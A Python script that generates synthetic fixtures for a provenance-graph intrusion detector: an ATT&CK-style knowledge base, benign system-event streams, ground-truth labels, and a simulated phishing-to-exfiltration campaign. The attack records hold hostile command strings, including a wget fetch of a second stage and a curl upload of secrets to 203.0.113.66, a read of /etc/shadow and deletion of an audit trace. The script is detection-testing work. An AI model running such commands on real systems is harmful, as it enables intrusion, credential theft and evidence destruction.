#!/usr/bin/env python3
"""Build the bundled synthetic fixtures: AMID knowledge base, benign
calibration stream, attack detection stream (plus an incomplete variant
missing the Establish Foothold step), and node-level ground truth.

The attack campaign on host h1 walks InitialCompromise -> EstablishFoothold
-> EscalatePrivilege -> CompleteMission; benign noise repeats office/system
workload patterns across three hosts. Everything is seeded and committed, so
tests never regenerate silently. Run from the repo root:

    python tools/gen_streams.py [--check]

--check only prints the score diagnostics without rewriting fixtures.
"""

import argparse
import json
import random
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures"

BASE_TS = 1735689600 * 10**9  # 2025-01-01T00:00:00Z in ns
SECOND = 10**9

# ---------------------------------------------------------------------------
# knowledge base
# ---------------------------------------------------------------------------


def fixture_aties():
    from provhunt.amid import ATIE, GIoC

    def G(uid, s, v, o, sentence=""):
        return GIoC(tuple(s.split()), tuple(v.split()), tuple(o.split()),
                    sentence, uid)

    return [
        ATIE("T1566", "Phishing", ["cti-mail-01"], [
            G("T1566", "phishing email", "deliver download",
              "malicious attachment invoice file user download",
              "the phishing email delivered a malicious attachment to the user's download folder"),
            G("T1566", "attacker", "send",
              "spearphishing attachment email message inbox",
              "the attacker sent a spearphishing attachment"),
        ]),
        ATIE("T1059.004", "Unix Shell", ["cti-shell-02"], [
            G("T1059.004", "malware payload", "execute run",
              "malicious shell script interpreter",
              "the malware payload executes a malicious shell script"),
            G("T1059.004", "attacker", "launch",
              "shell command binary execution",
              "the attacker launches shell commands"),
        ]),
        ATIE("T1105", "Ingress Tool Transfer", ["cti-c2-03"], [
            G("T1105", "malware", "download transfer ingress",
              "tool payload file remote unknown network server",
              "the malware downloads tooling from a remote server"),
            G("T1105", "implant", "fetch pull",
              "second stage payload binary external unknown network",
              "the implant fetches a second stage payload"),
        ]),
        ATIE("T1068", "Exploitation for Privilege Escalation", ["cti-priv-04"], [
            G("T1068", "malware", "exploit escalate sudo",
              "sudo vulnerability privilege escalation root",
              "the malware exploits sudo to escalate privileges to root"),
            G("T1068", "attacker", "elevate",
              "root privilege superuser elevation",
              "the attacker elevates to superuser"),
        ]),
        ATIE("T1003.008", "/etc/passwd and /etc/shadow", ["cti-cred-05"], [
            G("T1003.008", "malware", "read scan dump",
              "credential shadow passwd file",
              "the malware dumps credentials from the shadow file"),
            G("T1003.008", "attacker tool", "steal",
              "password hashes secret credentials file",
              "the tool steals password hashes"),
        ]),
        ATIE("T1555.003", "Credentials from Web Browsers", ["cti-lazagne-06"], [
            G("T1555.003", "lazagne", "scan",
              "directory browser resource user login",
              "Lazagne carefully scanned the browser's resource directory"),
            G("T1555.003", "lazagne", "steal",
              "credential files system users",
              "to extensively steal the credential files of system users"),
        ]),
        ATIE("T1041", "Exfiltration Over C2 Channel", ["cti-exfil-07"], [
            G("T1041", "malware", "transfer upload exfiltrate",
              "collected data archive unknown external network",
              "the malware exfiltrates collected data to an external server"),
            G("T1041", "implant", "post",
              "stolen secret data remote c2 server",
              "the implant posts stolen data to the c2 server"),
        ]),
        ATIE("T1485", "Data Destruction", ["cti-impact-08"], [
            G("T1485", "malware", "remove delete wipe",
              "audit trace record destruction",
              "the malware wipes audit traces"),
            G("T1485", "attacker", "destroy erase",
              "destructive wipe trace removal",
              "the attacker destroys forensic traces"),
        ]),
        # present in the knowledge base but not exercised by the campaign
        ATIE("T1083", "File and Directory Discovery", ["cti-disc-09"], [
            G("T1083", "adversary", "enumerate",
              "reconnaissance discovery sysinfo enumeration",
              "the adversary enumerates the filesystem for reconnaissance"),
        ]),
        ATIE("T1021.004", "SSH", ["cti-ssh-10"], [
            G("T1021.004", "adversary", "pivot",
              "lateral movement ssh session hop",
              "the adversary pivots over ssh"),
        ]),
        ATIE("T1053.003", "Cron", ["cti-cron-11"], [
            G("T1053.003", "malware implant", "persist",
              "malicious crontab backdoor autorun persistence",
              "the implant persists via a malicious crontab entry"),
        ]),
    ]


# ---------------------------------------------------------------------------
# event streams
# ---------------------------------------------------------------------------


def ev(ts, host, pid, name, image, kind, value, syscall, cmdline=""):
    return {
        "ts": ts,
        "host": host,
        "src": {"pid": pid, "name": name, "image": image},
        "dst": {"kind": kind, "value": value},
        "syscall": syscall,
        "cmdline": cmdline,
    }


BENIGN_PATTERNS = [
    # (name, image, kind, value, syscall, cmdline)
    ("systemd-journald", "/usr/lib/systemd/systemd-journald", "file",
     "/var/log/journal/system.journal", "write", ""),
    ("rsyslogd", "/usr/sbin/rsyslogd", "file", "/var/log/syslog", "write", ""),
    ("vim", "/usr/bin/vim", "file", "/home/alice/notes/meeting.txt", "write", ""),
    ("soffice", "/usr/lib/libreoffice/soffice", "file",
     "/home/alice/docs/quarterly.docx", "read", ""),
    ("chronyd", "/usr/sbin/chronyd", "ip", "10.0.0.1", "sendto", ""),
    ("apt", "/usr/bin/apt", "file", "/var/lib/dpkg/status", "read",
     "apt list --upgradable"),
    ("gcc", "/usr/bin/gcc", "file", "/tmp/build/main.o", "write",
     "gcc -c main.c -o /tmp/build/main.o"),
    ("nginx", "/usr/sbin/nginx", "file", "/etc/nginx/nginx.conf", "read", ""),
    ("mysqld", "/usr/sbin/mysqld", "file", "/var/lib/mysql/ibdata1", "write", ""),
    ("firefox", "/usr/lib/firefox/firefox", "file",
     "/home/alice/.mozilla/firefox/places.sqlite", "read", ""),
    ("updatedb", "/usr/bin/updatedb", "file", "/var/lib/mlocate/mlocate.db",
     "write", ""),
    ("python3", "/usr/bin/python3", "file", "/home/alice/project/train.csv",
     "read", "python3 analyze.py"),
    ("dockerd", "/usr/bin/dockerd", "file", "/var/lib/docker/overlay2/meta.json",
     "write", ""),
    ("sshd", "/usr/sbin/sshd", "ip", "10.0.0.9", "recvfrom", ""),
    ("snapd", "/usr/lib/snapd/snapd", "file", "/var/lib/snapd/state.json",
     "write", ""),
]

HOSTS = ["h1", "h2", "h3"]


def benign_event(rng, ts, host):
    i = rng.randrange(len(BENIGN_PATTERNS))
    name, image, kind, value, syscall, cmdline = BENIGN_PATTERNS[i]
    # stable pid per (host, pattern): no pid reuse in the fixture
    pid = 1000 + i
    return ev(ts, host, pid, name, image, kind, value, syscall, cmdline)


def attack_events(t0):
    """The h1 campaign. Returns (events, ef_event_indexes, entity_roles)."""
    A = []
    # IC: phishing attachment lands in the download folder
    A.append(ev(t0, "h1", 501, "thunderbird", "/usr/lib/thunderbird/thunderbird",
                "file", "/home/bob/downloads/invoice.pdf.exe", "write"))
    # connector: the shell loads the attachment before executing it
    A.append(ev(t0 + 55 * SECOND, "h1", 502, "bash", "/usr/bin/bash",
                "file", "/home/bob/downloads/invoice.pdf.exe", "read"))
    # EF: user shell executes the attachment -> payload process
    A.append(ev(t0 + 60 * SECOND, "h1", 502, "bash", "/usr/bin/bash",
                "process", "503:payload", "execve",
                "sh /home/bob/downloads/invoice.pdf.exe"))
    # EF: payload pulls second stage from an unresolved external host
    A.append(ev(t0 + 120 * SECOND, "h1", 503, "payload",
                "/home/bob/downloads/invoice.pdf.exe",
                "ip", "203.0.113.66", "recvfrom",
                "wget http://203.0.113.66/stage2.sh"))
    # EF: payload starts the fetched stage
    A.append(ev(t0 + 180 * SECOND, "h1", 503, "payload",
                "/home/bob/downloads/invoice.pdf.exe",
                "process", "505:stage2", "execve", "sh /tmp/stage2.sh"))
    # EP: sudo abuse for a root shell
    A.append(ev(t0 + 240 * SECOND, "h1", 505, "stage2", "/tmp/stage2.sh",
                "process", "506:sudo", "execve", "sudo -i"))
    # EP: credential dump
    A.append(ev(t0 + 300 * SECOND, "h1", 505, "stage2", "/tmp/stage2.sh",
                "file", "/etc/shadow", "read", "cat /etc/shadow"))
    # CM: exfiltration over the c2 channel
    A.append(ev(t0 + 360 * SECOND, "h1", 505, "stage2", "/tmp/stage2.sh",
                "ip", "203.0.113.66", "sendto",
                "curl http://203.0.113.66/upload secrets.tar.gz"))
    # CM: destroy the audit trace
    A.append(ev(t0 + 420 * SECOND, "h1", 505, "stage2", "/tmp/stage2.sh",
                "file", "/var/audit/trace.db", "unlink",
                "rm /var/audit/trace.db"))
    ef_indexes = [2, 3, 4]
    roles = {
        "attack": [
            ("file", "/home/bob/downloads/invoice.pdf.exe"),
            ("process", "payload|503"),
            ("process", "stage2|505"),
            ("process", "sudo|506"),
            ("file", "/etc/shadow"),
            ("ip", "203.0.113.66"),
            ("file", "/var/audit/trace.db"),
        ],
        # benign tooling abused by the attacker: reported, but not attack steps
        "involved_benign": [
            ("process", "thunderbird|501"),
            ("process", "bash|502"),
        ],
    }
    return A, ef_indexes, roles


def build_streams(seed=20250101):
    rng = random.Random(seed)
    benign_calibration = []
    ts = BASE_TS
    for _ in range(2000):
        ts += rng.randrange(1, 3) * SECOND
        benign_calibration.append(benign_event(rng, ts, rng.choice(HOSTS)))

    detect_events = []
    ts = BASE_TS + 7200 * SECOND
    attack, ef_indexes, roles = attack_events(ts + 1800 * SECOND)
    attack_iter = iter(sorted(attack, key=lambda e: e["ts"]))
    next_attack = next(attack_iter, None)
    n_benign = 5000 - len(attack)
    for _ in range(n_benign):
        ts += rng.randrange(1, 3) * SECOND
        while next_attack is not None and next_attack["ts"] <= ts:
            detect_events.append(next_attack)
            next_attack = next(attack_iter, None)
        detect_events.append(benign_event(rng, ts, rng.choice(HOSTS)))
    while next_attack is not None:
        detect_events.append(next_attack)
        next_attack = next(attack_iter, None)

    ef_ids = set(id(attack[i]) for i in ef_indexes)
    incomplete = [e for e in detect_events if id(e) not in ef_ids]
    return benign_calibration, detect_events, incomplete, roles


# ---------------------------------------------------------------------------
# ground truth
# ---------------------------------------------------------------------------


def node_id_for(host, kind, value):
    if kind == "process":
        name, pid = value.split("|")
        return f"{host}|process|{name}|{pid}|0"
    return f"{host}|{kind}|{value}"


def build_ground_truth(detect_events, roles):
    """Label every node the stream can create; campaign = the attack nodes."""
    from provhunt.graph import ProvGraph
    from provhunt.pipeline import parse_event

    g = ProvGraph()
    for rec in detect_events:
        g.ingest(parse_event(rec))
    labels = {nid: "benign" for nid in g.nodes}
    attack_ids = [node_id_for("h1", kind, value) for kind, value in roles["attack"]]
    for nid in attack_ids:
        if nid not in labels:
            raise SystemExit(f"ground-truth attack node {nid} never appears in the stream")
        labels[nid] = "attack"
    return {"nodes": labels, "campaigns": {"campaign-h1": attack_ids}}


# ---------------------------------------------------------------------------
# diagnostics
# ---------------------------------------------------------------------------


def diagnose(write=True):
    from provhunt.amid import AmidStore, calibrate_threshold, save_amid, score_event
    from provhunt.embedding import load_vectors
    from provhunt.lifting import lift_event
    from provhunt.pipeline import parse_event

    table = load_vectors(FIXTURES / "mini_vectors.vec")
    store = AmidStore.build(fixture_aties(), table, theta_hit=0.75)
    benign, detect, incomplete, roles = build_streams()

    lifted_benign = [lift_event(parse_event(r)) for r in benign]
    theta = calibrate_threshold(lifted_benign, store, table)
    print(f"theta_q = {theta:.4f}  (degenerate={store.calibration['degenerate']}, "
          f"mean={store.calibration['mean']:.4f}, sd={store.calibration['stddev']:.4f})")

    benign_max = 0
    benign_hist = {}
    for le in lifted_benign[:500]:
        scores, _ = score_event(le, store, table)
        for uid, s in scores.items():
            benign_hist[s] = benign_hist.get(s, 0) + 1
            benign_max = max(benign_max, s)
    print("benign per-ATIE score histogram (nonzero):", dict(sorted(benign_hist.items())))

    print("attack events:")
    for rec in detect:
        if rec["host"] == "h1" and rec["src"]["pid"] in (501, 502, 503, 505):
            le = lift_event(parse_event(rec))
            scores, _ = score_event(le, store, table)
            fired = {u: s for u, s in scores.items() if s > theta}
            print(f"  pid={rec['src']['pid']} {rec['syscall']:<9} -> {fired}")

    # full pipeline dry-run on both variants
    from provhunt.config import EngineConfig
    from provhunt.metrics import evaluate
    from provhunt.pipeline import DetectionPipeline

    gt = build_ground_truth(detect, roles)
    for label, stream in (("full", detect), ("no-EF", incomplete)):
        pipe = DetectionPipeline(store, table, EngineConfig())
        for rec in stream:
            pipe.process_record(rec)
        res = pipe.finish()
        line = f"  {label}: alerts={len(res.alerts)} suppressions={len(res.suppressions)}"
        if res.alerts:
            line += f" stages={res.alerts[0]['lifecycle']['stages']}"
            m = evaluate([a["lifecycle"]["nodes"] for a in res.alerts], gt)
            line += (f" nodeP={m.node_precision:.3f} nodeR={m.node_recall:.3f}"
                     f" graphP={m.graph_precision:.3f} graphR={m.graph_recall:.3f}")
        print(line)

    if write:
        save_amid(AmidStore.build(fixture_aties(), table, theta_hit=0.75),
                  FIXTURES / "amid_fixture.amid")
        for name, stream in (("benign_stream.ndjson", benign),
                             ("attack_stream.ndjson", detect),
                             ("attack_stream_noEF.ndjson", incomplete)):
            with open(FIXTURES / name, "w", encoding="utf-8") as fh:
                for rec in stream:
                    fh.write(json.dumps(rec, sort_keys=True) + "\n")
        gt = build_ground_truth(detect, roles)
        (FIXTURES / "ground_truth.json").write_text(
            json.dumps(gt, indent=1, sort_keys=True), encoding="utf-8")
        print(f"wrote fixtures: {len(benign)} benign, {len(detect)} detect "
              f"({len(incomplete)} in the no-EF variant), "
              f"{sum(1 for v in gt['nodes'].values() if v == 'attack')} attack nodes "
              f"of {len(gt['nodes'])} labeled")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--check", action="store_true", help="diagnostics only")
    args = ap.parse_args()
    diagnose(write=not args.check)


if __name__ == "__main__":
    main()
